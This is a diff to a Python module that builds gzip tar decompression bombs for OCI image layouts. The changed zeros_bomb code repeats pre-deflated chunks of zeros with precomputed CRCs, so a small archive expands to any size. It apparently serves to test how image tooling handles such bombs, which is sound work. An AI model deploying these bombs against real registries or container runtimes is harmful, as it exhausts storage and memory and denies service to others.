@@ -2,6 +2,7 @@
 headers, escaping entries, and a writer for OCI image layouts holding them."""
 from __future__ import annotations
 
+import functools
 import gzip
 import io
 import json
@@ -61,20 +62,21 @@ def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
     return crc1 ^ crc2
 
 
-_CHUNK_DEFLATE: Dict[str, bytes] = {}
+_CHUNK_DEFLATE: Dict[int, bytes] = {}
 
 
-def _deflated_zero_chunk() -> bytes:
-    """8 MiB of zeros as a byte-aligned run of deflate blocks (after a full flush the
-    compressor emits the same bytes for the same input: repeat it to make any size)."""
-    if "z" not in _CHUNK_DEFLATE:
+def _deflated_zeros(n: int = CHUNK) -> bytes:
+    """``n`` zeros as a byte-aligned run of deflate blocks (after a full flush the compressor
+    emits the same bytes for the same input: repeat it to make any size)."""
+    if n not in _CHUNK_DEFLATE:
         c = zlib.compressobj(9, zlib.DEFLATED, -15)
-        c.compress(bytes(CHUNK))
+        c.compress(bytes(n))
         c.flush(zlib.Z_FULL_FLUSH)
-        _CHUNK_DEFLATE["z"] = c.compress(bytes(CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
-    return _CHUNK_DEFLATE["z"]
+        _CHUNK_DEFLATE[n] = c.compress(bytes(n)) + c.flush(zlib.Z_FULL_FLUSH)
+    return _CHUNK_DEFLATE[n]
 
 
+@functools.lru_cache(maxsize=None)
 def _crc_of_zeros(n: int) -> int:
     # crc(zeros(a+b)) = combine(crc(zeros(a)), crc(zeros(b)), b); double up from one byte
     result = None
@@ -107,13 +109,11 @@ def zeros_bomb(total: int, name: str = "zeros", files: int = 1) -> bytes:
         ti = tarfile.TarInfo(f"{name}-{i}" if files > 1 else name)
         ti.size, ti.mode, ti.mtime = per, 0o644, 0
         plain(ti.tobuf(format=tarfile.GNU_FORMAT))
-        if per >= CHUNK:
-            k = per // CHUNK
-            body.append(_deflated_zero_chunk() * k)
+        if per:
+            body.append(_deflated_zeros() * (per // CHUNK) if per >= CHUNK else
+                        _deflated_zeros(per))
             crc = crc32_combine(crc, _crc_of_zeros(per), per)
             length += per
-        else:
-            plain(bytes(per))
         plain(bytes((-per) % 512))
     plain(bytes(1024))
     body.append(c.flush(zlib.Z_FINISH))
